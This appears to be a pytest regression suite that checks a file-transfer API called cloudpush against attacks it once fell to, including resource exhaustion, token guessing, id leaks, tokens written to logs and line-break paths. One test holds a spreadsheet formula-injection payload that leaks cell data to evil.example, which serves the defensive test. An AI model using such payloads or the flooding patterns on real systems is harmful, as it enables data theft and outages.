"""Attacks on the API that went through once: each test was seen to fail before what it attacks was mended."""

from __future__ import annotations

import asyncio
import csv
import io
from collections import OrderedDict
from collections.abc import AsyncIterator, Iterator
from typing import Any
from uuid import UUID

import httpx
import pytest
from starlette.requests import Request
from starlette.testclient import TestClient
from structlog.testing import capture_logs

from api_site import SECRET, WEB_URL, ApiSite, api_site
from cloudpush.audit.access import AccessBook
from cloudpush.errors import AccessError, CloudPushError, Code
from cloudpush.push.access.model import ALL_SCOPES, Role
from cloudpush.push.access.ports import Submitter
from cloudpush.push.access.tokens import digest, new_token
from cloudpush.stack.services import OpenBao, Valkey
from cloudpush.web.api import progress, turns
from cloudpush.web.api.limits import FAILURES
from cloudpush.web.api.paging import encode
from cloudpush.web.live import Streams
from servers import Database

MULTIPLE = 45  # more than there are threads


@pytest.fixture(scope="module")
def site(
    database: Database, valkey: Valkey, openbao: OpenBao, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[ApiSite]:
    vault = {"vault_url": openbao.url, "vault_auth_dir": openbao.auth_dir}
    with api_site(database, valkey.url(), tmp_path_factory.mktemp("attacks"), **vault) as made:
        yield made


def test_no_query_parameter_with_a_nul_character_is_a_defect(site: ApiSite) -> None:
    """Postgres has no text with one: /roles?principal, /tokens?owner and /files?q answered 500."""
    client = site.client("root@lab", Role.ADMIN)
    push = client.post("/v1/pushes", json=site.body(site.credential("root@lab"))).json()["push"]
    answers = {}
    for path, item in client.get("/v1/openapi.json").json()["paths"].items():
        url = "/v1" + path.replace("{push_id}", push).replace("{table}", "pushes").replace("{credential_id}", push)
        for parameter in item.get("get", {}).get("parameters", []):
            if parameter["in"] == "query":
                query = f"{parameter['name']}=%00"
                answers[f"{path}?{query}"] = client.get(f"{url}?{query}").status_code
    assert len(answers) > 40
    assert set(answers.values()) == {422}, {k: v for k, v in answers.items() if v != 422}


def test_whoever_waits_for_preflights_keeps_no_thread_from_others(site: ApiSite) -> None:
    """Forty waits of one pipeline's made every request of everybody's wait for a minute."""
    pipeline, other = site.client("ada@lab", Role.PIPELINE), site.client("bob@lab")
    question = {"destination": "s3://lab-archive/run", "credential": str(site.credential("ada@lab"))}

    async def attack() -> set[str]:
        async with httpx.AsyncClient(transport=httpx.ASGITransport(site.app), base_url=WEB_URL) as client:

            async def wait() -> None:
                headers = {"authorization": pipeline.headers["authorization"]}
                await client.post("/v1/preflights?wait=4", json=question, headers=headers)

            waits = [asyncio.create_task(wait()) for _ in range(MULTIPLE)]
            await asyncio.sleep(1)  # all of them are waiting by then, or queue for a thread
            headers = {"authorization": other.headers["authorization"]}
            asked = asyncio.create_task(client.get("/v1/me", headers=headers), name="other")
            done, _ = await asyncio.wait([*waits, asked], return_when=asyncio.FIRST_COMPLETED)
            await asyncio.gather(*waits, asked)
            return {task.get_name() for task in done}

    assert asyncio.run(attack()) == {"other"}


def test_exports_are_taken_a_few_at_a_time(site: ApiSite) -> None:
    """Each holds a connection to Postgres as long as its reader likes: sixteen of them and nobody was served."""
    auditor = site.client("eve@lab", Role.AUDITOR)
    held = [turns.exports.acquire(blocking=False) for _ in range(turns.EXPORTS)]
    try:
        answer = auditor.get("/v1/audit/exports/pushes")
        assert (answer.status_code, answer.json()["code"]) == (429, Code.RATE_LIMITED)
        assert int(answer.headers["retry-after"]) > 0
    finally:
        for _ in held:
            turns.exports.release()
    assert auditor.get("/v1/audit/exports/pushes").status_code == 200
    assert auditor.get("/v1/audit/exports/pushes?format=parquet").status_code == 200
    assert all(turns.exports.acquire(blocking=False) for _ in held)  # given back
    for _ in held:
        turns.exports.release()


@pytest.mark.parametrize("version", ["2.3", "2.4"])
def test_a_reader_that_does_not_read_is_sent_away(version: str, monkeypatch: pytest.MonkeyPatch) -> None:
    closed = []

    async def chunks() -> AsyncIterator[bytes]:
        try:
            while True:
                yield b"x"
        finally:
            closed.append(True)

    async def never(message: Any = None) -> Any:
        if message is None or message["type"] == "http.response.body":
            await asyncio.sleep(3600)

    async def read() -> None:
        scope = {"type": "http", "path": "/", "asgi": {"spec_version": version}}
        await turns.Hurried(chunks())(scope, never, never)

    monkeypatch.setattr(turns, "READ_SECONDS", 0.01)
    asyncio.run(asyncio.wait_for(read(), 5))
    assert closed


def test_nobody_has_a_source_walked_many_times_at_once(site: ApiSite, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each walk keeps a thread busy for as long as the source is large."""
    client, credential = site.client("ada@lab"), site.credential("ada@lab")
    others = site.client("bob@lab")
    inner = site.services.intake.preview
    answers: list[int] = []

    def walk(request: Any) -> Any:
        if len(answers) < 4:
            answers.append(0)
            again = client.post("/v1/pushes?dry_run=true", json=site.body(credential))
            answers.append(again.status_code)
        return inner(request)

    monkeypatch.setattr(site.services.intake, "preview", walk)
    assert client.post("/v1/pushes?dry_run=true", json=site.body(credential)).status_code == 200
    assert 429 in answers
    body = site.body(site.credential("bob@lab"))
    assert others.post("/v1/pushes?dry_run=true", json=body).status_code == 200


def test_a_stream_ends_with_the_role_that_it_was_opened_with(site: ApiSite, monkeypatch: pytest.MonkeyPatch) -> None:
    """An auditor's stream of somebody's push went on for five minutes after the role was taken away."""
    owner, auditor = site.client("ada@lab"), site.client("once@lab", None)
    push = UUID(owner.post("/v1/pushes", json=site.body(site.credential("ada@lab"))).json()["push"])
    book = AccessBook(site.record.app)
    book.grant_role("once@lab", Role.AUDITOR, "tests")
    monkeypatch.setattr(progress, "HEARTBEAT_SECONDS", -1)
    header = auditor.headers["authorization"]
    request = Request(
        {"type": "http", "app": _api(site), "headers": [(b"authorization", header.encode())], "query_string": b""}
    )

    async def follow() -> int:
        who = site.services.access.identify(header.split()[1])
        row = site.services.history.push(push, who.sees)
        heard: list[bytes] = []
        streams = Streams(lambda: len(heard) > 20)
        async for event in progress._moments(request, who, push, row, lambda _: None, streams):
            heard.append(event)
            if len(heard) == 1:
                book.revoke_role("once@lab", Role.AUDITOR, "tests")
                site.services.access._kept._found.clear()  # two seconds pass
        return len(heard)

    with pytest.raises(CloudPushError) as e:
        asyncio.run(follow())
    assert e.value.code in (Code.UNKNOWN_PUSH, Code.NOT_OWNER)


def _api(site: ApiSite) -> Any:
    return next(route.app for route in site.app.routes if getattr(route, "path", "") == "/v1")  # type: ignore[attr-defined]


def test_nobody_keeps_megabytes_in_memory_without_a_token(site: ApiSite) -> None:
    """A body was read to its end, eight MiB of it, before anybody looked who sent it."""
    taken = 0

    def body() -> Iterator[bytes]:
        nonlocal taken
        for _ in range(64):
            taken += 64 * 1024
            yield b" " * 64 * 1024

    answers = []
    headers: list[dict[str, str]] = [{}, {"authorization": "Bearer x.y.z"}]
    for header in headers:
        pieces = body()
        sent = httpx.Request("POST", f"{WEB_URL}/v1/pushes", content=_Body(pieces), headers=header)
        answers.append(asyncio.run(_asked(site, sent)).status_code)
    assert answers == [401, 401]
    assert taken <= 2 * 3 * 64 * 1024
    big = {"pushes": [{"source": "/" + "x" * 1000, "destination": "s3://b/p", "credential": "c"}] * 100}
    assert site.client("ada@lab").post("/v1/pushes/batch", json=big).status_code == 200


class _Body(httpx.AsyncByteStream):
    def __init__(self, pieces: Iterator[bytes]) -> None:
        self._pieces = pieces

    async def __aiter__(self) -> AsyncIterator[bytes]:
        for piece in self._pieces:
            yield piece


async def _asked(site: ApiSite, request: httpx.Request) -> httpx.Response:
    async with httpx.AsyncClient(transport=httpx.ASGITransport(site.app)) as client:
        return await client.send(request)


def test_a_message_behind_a_token_that_has_expired_meanwhile_is_refused(site: ApiSite) -> None:
    """Signed seconds before its API token ended, a submission was good for five more minutes."""
    book = AccessBook(site.record.app)
    token = book.add_token(
        digest(new_token()),
        owner="ada@lab",
        name="t",
        role=None,
        scopes=ALL_SCOPES,
        seconds=0.0,
        actor="t",
    )
    by = Submitter("ada@lab", "ada@lab", frozenset({Role.USER}), ALL_SCOPES, token.id)
    with pytest.raises(AccessError) as e:
        site.services.access.principal_of_message(by)
    assert e.value.code is Code.SUBMISSION_REFUSED


def test_nothing_of_anothers_is_named_in_a_request_of_ones_own(site: ApiSite) -> None:
    """Ids of credentials and webhooks, names of theirs, destinations below their shares: as unknown as what is not there."""
    bob, mallory = site.credential("bob@lab", name="lab"), site.client("mallory@lab")
    hook = site.credential("bob@lab", kind="resign_hook", name="hook")
    rows = [{"path": "a.txt", "method": "PUT", "url": "https://b.s3.amazonaws.com/a.txt?X-Amz-Signature=1"}]
    urls = {"source": str(site.source), "urls": rows}
    question = {"destination": "s3://lab-archive/run"}
    for theirs in (str(bob), "bob@lab/lab"):
        for path, body in (
            ("/v1/pushes", site.body(theirs)),
            ("/v1/pushes?dry_run=true", site.body(theirs)),
            ("/v1/preflights", {**question, "credential": theirs}),
        ):
            unknown = {**body, "credential": "00000000-0000-4000-8000-000000000000"}
            seen = [mallory.post(path, json=given).json() for given in (body, unknown)]
            assert seen[0]["status"] == 404, (path, seen)
            assert {k: v for k, v in seen[0].items() if k != "request_id"} == {
                k: v for k, v in seen[1].items() if k != "request_id"
            }
    for theirs in (str(hook), "hook", "bob@lab/hook"):
        answer = mallory.post("/v1/pushes", json={**urls, "resign_hook": theirs})
        assert answer.json()["code"] == Code.UNKNOWN_CREDENTIAL, answer.text


@pytest.mark.parametrize("field", ["expires_at", "purge_after"])
@pytest.mark.parametrize("moment", ["9999-12-31T23:59:59-14:00", "9999-12-31T00:00:00Z"])
def test_no_credential_has_a_time_that_nobody_can_read_again(site: ApiSite, field: str, moment: str) -> None:
    """Postgres has a year 10000 and Python none: one user's credential made everybody's list of them a defect for ever."""
    mallory, auditor = site.client("mallory@lab"), site.client("eve@lab", Role.AUDITOR)
    body = {"name": f"{field} {moment}", "secret": SECRET, field: moment}
    answer = mallory.post("/v1/credentials", json=body)
    assert (answer.status_code, answer.json()["code"]) == (422, Code.BAD_INPUT)
    assert mallory.get("/v1/credentials").status_code == 200
    assert auditor.get("/v1/credentials").status_code == 200
    assert auditor.get("/v1/audit/exports/credentials?format=parquet").status_code == 200


@pytest.mark.parametrize("number", [2**31, 2**63 - 1, -(2**31) - 1])
def test_no_cursor_is_beyond_what_the_database_counts_to(site: ApiSite, number: int) -> None:
    """Checkpoints are numbered in 32 bits: a cursor of 33 was a defect."""
    auditor = site.client("eve@lab", Role.AUDITOR)
    answer = auditor.get(f"/v1/audit/checkpoints?cursor={encode(number)}")
    assert answer.status_code in (200, 422), answer.text


def test_no_profile_of_a_credential_is_a_formula(site: ApiSite) -> None:
    """Its owner writes it, and an auditor's spreadsheet worked it out."""
    formula = '=HYPERLINK("https://evil.example/?"&A1,"profile")'
    body = {"name": "formula", "secret": SECRET, "profile": formula}
    assert site.client("mallory@lab").post("/v1/credentials", json=body).status_code == 201
    text = site.client("eve@lab", Role.AUDITOR).get("/v1/audit/exports/credentials").text
    assert {row["profile"] for row in csv.DictReader(io.StringIO(text, newline=""))} >= {f"'{formula}"}


def test_no_submission_token_is_for_a_key_that_nobody_can_store(site: ApiSite) -> None:
    """It was signed, and every worker refused it: who asked for it never heard why."""
    ada = site.client("ada@lab")
    body = {"request": site.body(site.credential("ada@lab")), "idempotency_key": "a\0b"}
    answer = ada.post("/v1/submission-tokens", json=body)
    assert (answer.status_code, answer.json()["field"]) == (422, "idempotency_key")


def test_whoever_guesses_tokens_shuts_nobody_out_who_shares_the_address(site: ApiSite) -> None:
    """Behind a proxy all share one: who sent it a wrong token each second had everybody answered 429."""
    ada, guesser = (TestClient(site.app, base_url=WEB_URL, client=("192.0.2.7", 1)) for _ in range(2))
    ada.headers["authorization"] = f"Bearer {site.token('ada@lab')}"
    assert ada.get("/v1/me").status_code == 200
    guesser.headers["authorization"] = f"Bearer {new_token()}"
    asked = [guesser.get("/v1/me").status_code for _ in range(FAILURES.burst + 5)]
    assert set(asked) == {401, 429}
    site.services.access._kept._found = OrderedDict(
        (key, (0.0, who)) for key, (_, who) in site.services.access._kept._found.items()
    )  # two seconds pass
    assert ada.get("/v1/me").status_code == 200
    assert guesser.get("/v1/me").status_code == 429


def test_whoever_sends_wrong_tokens_with_long_bodies_is_counted_as_well(site: ApiSite) -> None:
    """Beyond 64 KiB the token was looked up before anything was counted: guesses without end, and Postgres asked for each."""
    guesser = TestClient(site.app, base_url=WEB_URL, client=("192.0.2.9", 1))
    long = {"pushes": [{"source": "x" * 70_000}]}
    asked = [
        guesser.post("/v1/pushes/batch", json=long, headers={"authorization": f"Bearer {new_token()}"}).status_code
        for _ in range(FAILURES.burst + 5)
    ]
    assert set(asked) == {401, 429}


def test_no_token_in_a_path_is_logged(site: ApiSite) -> None:
    """Who revokes a token by its text, and not by its id, had it written into the log, good as it was."""
    token = new_token()
    with capture_logs() as heard:
        site.client("ada@lab").delete(f"/v1/tokens/{token}")
        site.client().get(f"/pushes/{token}")
    assert [line["event"] for line in heard].count("served") == 2
    assert token not in str(heard)


@pytest.mark.parametrize("path", ["problems/a%0Ab", "a%0Ab", "pushes%0A/1", "%0D%0A", "problems/%E2%80%A8"])
def test_an_address_with_a_line_end_is_the_apis(site: ApiSite, path: str) -> None:
    """It was answered by a page, since a pattern ended there."""
    answer = site.client("ada@lab").get(f"/v1/{path}")
    assert (answer.status_code, answer.headers["content-type"]) == (404, "application/problem+json")
